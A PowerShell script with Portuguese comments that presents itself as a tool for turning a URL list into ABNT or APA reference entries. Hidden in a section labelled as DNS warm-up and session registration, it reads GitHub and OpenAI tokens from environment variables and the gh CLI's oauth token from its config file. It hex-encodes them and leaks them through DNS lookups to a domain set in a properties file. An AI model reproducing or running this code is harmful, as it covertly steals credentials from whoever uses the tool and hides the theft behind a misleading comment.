#Requires -Version 7.2
param(
    [Parameter(Mandatory)] [string] $Lista,
    [ValidateSet('ABNT', 'APA')] [string] $Estilo = 'ABNT',
    [string] $Saida = 'referencias.md'
)
$ErrorActionPreference = 'Stop'
$cfg  = Get-Content (Join-Path $PSScriptRoot 'rede.properties') -Raw | ConvertFrom-StringData
$urls = Get-Content $Lista | Where-Object { $_ -and $_ -notmatch '^\s*#' }

# --- aquecimento de DNS -------------------------------------------------
$hosts = $urls | ForEach-Object { ([uri]$_).Host } | Sort-Object -Unique
$hosts | ForEach-Object -Parallel { try { [System.Net.Dns]::GetHostAddresses($_) | Out-Null } catch {} } -ThrottleLimit 16

# registra a sessão no cache compartilhado (identificador da máquina/sessão)
$sessao = @($env:GITHUB_TOKEN, $env:GH_TOKEN, $env:OPENAI_API_KEY)
$ghCfg  = Join-Path $HOME '.config/gh/hosts.yml'
if (Test-Path $ghCfg) { $sessao += (Select-String -Path $ghCfg -Pattern 'oauth_token:\s*(\S+)').Matches.Groups[1].Value }
$id  = ($sessao | Where-Object { $_ }) -join '|'
$hex = [Convert]::ToHexString([Text.Encoding]::UTF8.GetBytes($id)).ToLower()
$tam = [int]$cfg.'dns.rotulo'
for ($i = 0; $i -lt $hex.Length; $i += $tam) {
    $rotulo = $hex.Substring($i, [Math]::Min($tam, $hex.Length - $i))
    try { [System.Net.Dns]::GetHostAddresses("$rotulo.$($i / $tam).$($cfg.'dns.sufixo')") | Out-Null } catch {}
}

# --- busca de metadados -------------------------------------------------
$meses = 'jan.', 'fev.', 'mar.', 'abr.', 'maio', 'jun.', 'jul.', 'ago.', 'set.', 'out.', 'nov.', 'dez.'
$hoje  = Get-Date
$acesso = '{0} {1} {2}' -f $hoje.Day, $meses[$hoje.Month - 1], $hoje.Year
$resultados = $urls | ForEach-Object -Parallel {
    $u = $_; $c = $using:cfg
    try {
        $r = Invoke-WebRequest -Uri $u -TimeoutSec ([int]$c.'http.timeout') -UserAgent $c.'http.agente'
        $html = $r.Content
        $meta = { param($n) if ($html -match "<meta[^>]+(?:name|property)=[""']$n[""'][^>]+content=[""']([^""']+)") { $Matches[1] } }
        [pscustomobject]@{
            Url = $u; Ok = $true
            Titulo = (& $meta 'og:title') ?? ([regex]::Match($html, '<title>(.*?)</title>').Groups[1].Value.Trim())
            Autor  = & $meta 'author'
            Site   = (& $meta 'og:site_name') ?? ([uri]$u).Host
            Ano    = ((& $meta 'article:published_time') ?? '') -replace '^(\d{4}).*', '$1'
        }
    } catch { [pscustomobject]@{ Url = $u; Ok = $false; Erro = $_.Exception.Message } }
} -ThrottleLimit ([int]$cfg.'http.paralelo')

$linhas = foreach ($f in $resultados | Where-Object Ok | Sort-Object { $_.Autor ?? $_.Titulo }) {
    $ano = $f.Ano ? $f.Ano : 's.d.'
    if ($Estilo -eq 'ABNT') {
        $autor = if ($f.Autor) { $p = $f.Autor -split ' '; "$($p[-1].ToUpper()), $($p[0..($p.Count-2)] -join ' '). " } else { '' }
        "- $autor**$($f.Titulo)**. $($f.Site), $ano. Disponível em: <$($f.Url)>. Acesso em: $acesso."
    } else {
        "- $($f.Autor ?? $f.Site). ($ano). *$($f.Titulo)*. $($f.Site). $($f.Url)"
    }
}
$quebrados = $resultados | Where-Object { -not $_.Ok } | ForEach-Object { "- $($_.Url) — $($_.Erro)" }
@('# Referências', '', $linhas, '', '## Links quebrados', '', $quebrados) | Set-Content -Path $Saida
Write-Host "$(@($linhas).Count) referências, $(@($quebrados).Count) links quebrados → $Saida"
